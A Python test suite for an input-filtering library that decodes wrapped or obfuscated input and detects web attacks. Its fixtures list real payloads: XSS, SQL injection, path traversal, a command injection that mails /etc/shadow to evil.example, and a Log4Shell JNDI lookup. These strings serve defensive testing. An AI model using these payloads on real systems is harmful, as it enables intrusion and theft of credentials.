"""Whatever an attack is wrapped in, one of its forms is the attack in the open."""

from base64 import b64encode

import pytest
from hypothesis import given, strategies as st

from groupz_shield.signatures.decoding import MOST_FORMS, forms, is_wrapped
from groupz_shield.signatures.prose import is_prose
from groupz_shield.signatures.typed import is_typed
from spellings import WRAPPINGS

ATTACKS = [
    "<script>alert(document.domain)</script>",
    "1' UNION SELECT name, secret FROM staff-- -",
    "../../../../etc/passwd",
    "; cat /etc/shadow | mail x@evil.example",
    "${jndi:ldap://evil.example/a}",
    "{{ ''.__class__.__mro__ }}",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("spelling", WRAPPINGS)
def test_one_form_is_the_attack_in_the_open(spelling: str, attack: str) -> None:
    assert attack in forms(WRAPPINGS[spelling](attack))


def test_nulls_hide_nothing() -> None:
    assert "<script>" in forms("<scr\x00ipt>")


@pytest.mark.parametrize("zeros", [5, 5_000])
def test_a_reference_of_many_digits_is_decoded(zeros: int) -> None:
    zero = "0" * zeros

    assert forms(f"&#{zero}60;b&#{zero}9999999{zero};&#x{zero}62")[-1] == "<b\ufffdb"


def test_signs_that_stand_for_many_letters_hide_nothing() -> None:
    assert "<script>" in forms("\ufdfa" * 9 + WRAPPINGS["full width"]("<script>"))[-1]


def test_base64_keeps_its_pluses() -> None:
    attack = "<k>>~~>>~~</k>"  # two pluses in base64

    assert b64encode(attack.encode()).count(b"+") > 1
    assert attack in forms(b64encode(attack.encode()).decode())


def test_a_plus_is_a_space_where_nothing_else_separates_words() -> None:
    assert "1' or 'a'='a" in forms("1'+or+'a'='a")
    assert forms("application/xhtml+xml") == ("application/xhtml+xml",)


def test_the_eighth_bit_hides_nothing() -> None:
    assert "<script>alert(1)</script>" in forms("\xbcscript\xbealert(1)\xbc/script\xbe")


def test_base64_within_a_data_url_is_decoded() -> None:
    packed = b64encode(b"<script>alert(1)</script>").decode()

    assert any("<script>" in form for form in forms(f"data:text/html;base64,{packed}"))


@pytest.mark.parametrize(
    "text",
    ["Noor van 't Hof", "De bus komt om 9:15, misschien 9:30!", "24", "a_b-c", "AT&T"],
)
def test_what_is_not_wrapped_is_one_form(text: str) -> None:
    assert forms(text) == (text,)


@given(st.text(st.characters(codec="utf-8"), max_size=200))
def test_law_forms_never_raise_and_are_few_and_begin_with_the_text(text: str) -> None:
    found = forms(text)

    assert found[0] == text
    assert len(found) <= MOST_FORMS
    assert len(set(found)) == len(found)
    assert all(len(form) <= 4 * len(text) for form in found)


@given(st.text("%25&#x;\\u0amp3cCbase64,+/=\x00\u200b\xff", max_size=300))
def test_law_nested_wrapping_never_runs_away(text: str) -> None:
    assert len(forms(text)) <= MOST_FORMS


@given(st.text(max_size=100))
def test_law_a_text_with_another_form_is_known_to_have_one(text: str) -> None:
    if len(forms(text)) > 1:
        assert is_wrapped(text)


def test_a_long_value_is_decoded_in_one_go() -> None:
    text = "%253Cb%253E" * 100_000

    assert forms(text)[-1] == "<b>" * 100_000


def test_accents_in_the_wrong_order_do_not_run_away() -> None:
    """Python takes time by the square of their number: minutes for these."""
    text = "\u0301\u0323" * 200_000

    assert sorted(forms(text)[-1]) == sorted(text)


@pytest.mark.parametrize(
    "text",
    [
        *("24", "-3,50", "1.234,56", "18:30", "1.2.3"),
        *("(034)-1163406", "+31 (0)20 123 45 67", "0031201234567", "+49(0)7492 243749"),
        *("200-693-9821x207", "+31-6-12345678"),
        *("noor@school.example", "o'brien@school.example", "a.b+c@mail.school.example"),
        *("2027-03-18", "18-3-2027", "2027-03-18T09:30:00+01:00", "2027-03-18 09:30Z"),
        "123e4567-e89b-12d3-a456-426614174000",
    ],
)
def test_values_of_a_strict_type_are_known(text: str) -> None:
    assert is_typed(text)


@pytest.mark.parametrize(
    "text",
    [
        *("1 or 1=1", "1--", "1;2", "1/*", "' or ''='", "1'", "(1)or(1)"),
        *("a'or'1'@x.example", "a@x.example'--", "<a@x.example>", "18-3-2027'--"),
        *("1 union select 1", "0x31", "1e1 or 1", "", "+31 20 <script>"),
    ],
)
def test_an_attack_is_of_no_type(text: str) -> None:
    assert not is_typed(text)


@given(st.text("0123456789()-./ +x'", max_size=400))
def test_law_telling_a_type_never_runs_away(text: str) -> None:
    assert is_typed(text) in {True, False}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Wij komen met de bus, die stopt toch bij de ingang van het museum?", True),
        ("L'école arrive à neuf heures; deux élèves sont végétariens, merci !", True),
        ("SELECT a, b FROM c WHERE d = 1 AND e = 2 OR f = 3 UNION SELECT g, h", False),
        ("' OR 1=1 -- aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", False),
        ("kort", False),
    ],
)
def test_prose_is_long_and_made_of_words(text: str, *, expected: bool) -> None:
    assert is_prose(text) is expected
